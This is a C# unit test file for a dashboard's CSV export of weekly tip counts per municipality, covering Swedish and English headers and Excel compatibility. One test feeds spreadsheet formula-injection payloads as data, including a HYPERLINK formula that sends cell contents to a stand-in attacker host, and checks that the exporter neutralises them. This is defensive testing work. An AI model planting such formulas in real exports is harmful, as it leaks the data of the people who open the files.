using System.Text;
using CsvHelper;
using Grastorp.Intake.Core.Calendar;
using Grastorp.Intake.Core.Municipalities;
using Grastorp.Intake.Core.Staff.Dashboard;
using Grastorp.Intake.Core.Stats;
using Grastorp.Intake.Core.Texts;

namespace Grastorp.Intake.Core.Tests.Staff;

public sealed class CountsCsvTests
{
    private static DashboardView View(string scopeName, params ThemeColumn[] themes) => View(Language.Swedish, scopeName, themes);

    private static DashboardView View(Language language, string scopeName, params ThemeColumn[] themes)
    {
        var w47 = WeekId.Parse("2026-W47");
        var w48 = WeekId.Parse("2026-W48");
        var weeks = new List<WeekCounts>
        {
            new(w47, 3, themes.ToDictionary(t => t.Id, _ => 1)),
            new(w48, 5, themes.ToDictionary(t => t.Id, _ => 2)),
        };
        var query = new StatsQuery(w47, w48, [new Municipality("vara", "Vara")]);
        return new DashboardView(
            new DashboardQuery(DashboardPeriod.Weeks, "vara", DashboardFields.All, query, query),
            scopeName,
            themes,
            new CountSeries(weeks, new CountTotals(8, themes.ToDictionary(t => t.Id, _ => 3))),
            new CountTotals(0, new Dictionary<string, int>()),
            language);
    }

    [Fact]
    public void Asked_from_the_English_page_the_header_and_kind_are_English_and_the_BOM_and_semicolons_stay()
    {
        var bytes = CountsCsv.Write(View(Language.English, "All municipalities", new ThemeColumn("drugs", "Drugs"), new ThemeColumn("burglary", "Burglary and theft")));

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.StartsWith("Week;Municipality;Kind;Drugs;Burglary and theft;All tips\r\n", text, StringComparison.Ordinal);
        Assert.Contains("2026-W48;All municipalities;All kinds;2;2;5", text, StringComparison.Ordinal);
        Assert.EndsWith("Total;All municipalities;All kinds;3;3;8\r\n", text, StringComparison.Ordinal);
    }

    [Fact]
    public void The_csv_opens_in_Swedish_Excel_with_a_byte_order_mark_semicolons_and_weeks_as_text()
    {
        var bytes = CountsCsv.Write(View("Vara", new ThemeColumn("drugs", "Droger"), new ThemeColumn("burglary", "Inbrott och stöld")));

        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes[3..]);
        Assert.StartsWith("Vecka;Kommun;Typ;Droger;Inbrott och stöld;Alla tips\r\n", text, StringComparison.Ordinal);

        using var reader = CsvReader.Create(new MemoryStream(bytes), new CsvReaderOptions { Separator = ';' });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(i => reader.GetString(i))]);
        }

        Assert.Equal(["Vecka", "Kommun", "Typ", "Droger", "Inbrott och stöld", "Alla tips"], reader.Headers);
        Assert.Equal([["2026-W47", "Vara", "Alla typer", "1", "1", "3"], ["2026-W48", "Vara", "Alla typer", "2", "2", "5"], ["Summa", "Vara", "Alla typer", "3", "3", "8"]], rows);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klicka\")")]
    [InlineData("+SUM(1,2)")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void A_name_that_looks_like_a_formula_is_written_as_text(string planted)
    {
        var bytes = CountsCsv.Write(View(planted, new ThemeColumn("miljo", planted)));

        using var reader = CsvReader.Create(new MemoryStream(bytes), new CsvReaderOptions { Separator = ';' });
        Assert.True(reader.Read());
        Assert.Equal("'" + planted, reader.Headers[3]);
        Assert.Equal("'" + planted, reader.GetString(1));
        Assert.DoesNotContain(reader.Headers, h => h.Length > 0 && "=+-@\t\r".Contains(h[0], StringComparison.Ordinal));
    }
}
